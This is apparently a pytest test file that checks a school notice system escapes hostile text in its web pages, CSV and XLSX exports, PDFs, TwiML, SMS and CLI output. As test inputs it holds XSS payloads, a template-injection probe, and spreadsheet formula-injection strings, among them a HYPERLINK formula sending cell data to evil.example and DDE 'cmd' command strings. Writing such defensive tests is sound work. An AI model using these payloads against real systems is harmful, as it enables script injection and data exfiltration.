"""Hostile notice text and family names come out as text everywhere: web, CSV, SVG, PDF, TwiML, SMS."""

import csv
import io
import subprocess
import xml.etree.ElementTree as ET

import openpyxl
import pytest

from ivr.simulator import Phone
from ivr.sms import notice_text
from print.bulletin import print_bulletins
from server import clock, links, notices, settings
from tests.builders import make_notice

TITLE = "<script>alert('t')</script> & <b>bold"
BODY = "<img src=x onerror=alert(1)> ]]> {{ 7*7 }} %(n)s"
NAME = "<svg onload=alert(2)>王"


@pytest.fixture
def hostile(db, school):
    notice_id = make_notice(db, texts={"zh-Hans": (TITLE, BODY)}, reply_options=["attend", "absent"])
    db.execute("UPDATE families SET display_name = ? WHERE id = ?", [NAME, school["S1"]])
    db.execute("UPDATE students SET name = ? WHERE family_id = ?", [NAME, school["S1"]])
    return notice_id


def _clean(page: str) -> None:
    for raw in ("<script>alert", "<img src=x", "<svg onload", "<b>bold"):
        assert raw not in page, raw
    assert "49" not in page.split("{{")[0][-5:]  # no template evaluation


def test_staff_pages(client, login, staff, hostile, school):
    login("admin", "admin-pass")
    pages = ["/", f"/notices/{hostile}", "/families", f"/families/{school['S1']}", "/unreached", "/reports",
             f"/notices/{hostile}/channels.svg", f"/notices/{hostile}/curve.svg"]
    for url in pages:
        reply = client.get(url)
        assert reply.status_code == 200, url
        _clean(reply.get_data(as_text=True))
    assert "&lt;script&gt;alert(&#39;t&#39;)&lt;/script&gt;" in client.get(f"/notices/{hostile}").get_data(as_text=True)


def test_spreadsheets_do_not_run_formulas(client, login, staff, db, hostile, school):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    db.execute("UPDATE families SET display_name = ? WHERE id = ?", [formula, school["S1"]])
    login("admin", "admin-pass")
    rows = list(csv.reader(io.StringIO(client.get(f"/notices/{hostile}/unread.csv").get_data(as_text=True))))
    cells = [cell for row in rows for cell in row]
    assert "'" + formula in cells and formula not in cells
    assert any(cell.startswith("+86") for cell in cells)  # phone numbers stay as they are
    book = openpyxl.load_workbook(io.BytesIO(client.get(f"/notices/{hostile}/unread.xlsx").data))
    values = [c.value for row in book.active.iter_rows() for c in row]
    assert "'" + formula in values and all(c.data_type != "f" for row in book.active.iter_rows() for c in row)


def test_family_link_pages(client, db, hostile, school):
    token = links.make_token(db, school["S1"])
    for url in (f"/f/{token}", f"/f/{token}/n/{hostile}"):
        page = client.get(url).get_data(as_text=True)
        _clean(page)
        assert "&lt;img src=x" in page or url.endswith(token)


def test_pdf_prints_the_text_literally(db, hostile, school, tmp_path):
    week = clock.iso_week(clock.now(), settings.zone(db))
    code = db["families"].get(school["S1"])["code"]
    out = print_bulletins(db, week, out=tmp_path / "b.pdf", family_code=code).out
    text = subprocess.run(["pdftotext", str(out), "-"], capture_output=True, text=True, check=True).stdout
    assert "<script>alert('t')</script> & <b>bold" in text and "<img src=x onerror=alert(1)>" in text


def test_twiml_and_sms(app, db, hostile, school):
    phone = Phone(app, "+8613800138001")
    spoken = phone.dial().text  # every TwiML answer on the way parsed as XML
    assert TITLE in spoken and BODY in spoken
    sms = notice_text(notices.get_notice(db, hostile), "zh-Hans", "School")
    assert TITLE in sms
    answer = Phone(app, "+8613800138001").post("/ivr/sms", {"From": "+8613800138001", "To": "+1", "Body": "<x>1",
                                                           "MessageSid": "SMx"})
    ET.fromstring(answer.data)


@pytest.mark.parametrize("formula", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
                                     "@SUM(1+9)*cmd|' /C calc'!A0"])
def test_command_line_csv_is_as_safe_as_the_downloads(db, hostile, school, formula):
    from click.testing import CliRunner

    from server import db as database
    from server.cli import cli
    db.execute("UPDATE families SET display_name = ? WHERE id = ?", [formula, school["S1"]])
    db.execute("UPDATE students SET name = ? WHERE family_id = ?", [formula, school["S1"]])
    path = str(database.file_of(db))
    for command in (["status", "--notice", str(hostile)], ["roster", "list"]):
        result = CliRunner().invoke(cli, [*command, "--format", "csv", "--db", path])
        assert result.exit_code == 0, result.output
        cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
        assert not any(cell.startswith(("=", "+c", "@")) for cell in cells), command
        assert any(cell.startswith("'") and formula in cell for cell in cells), command


def test_a_control_character_in_a_name_does_not_break_the_spreadsheet(client, login, staff, db, hostile, school):
    db.execute("UPDATE families SET display_name = ? WHERE id = ?", ["王\x07奶奶\x1b", school["S1"]])
    login("admin", "admin-pass")
    reply = client.get(f"/notices/{hostile}/unread.xlsx")
    assert reply.status_code == 200
    values = [c.value for row in openpyxl.load_workbook(io.BytesIO(reply.data)).active.iter_rows() for c in row]
    assert "王奶奶" in values
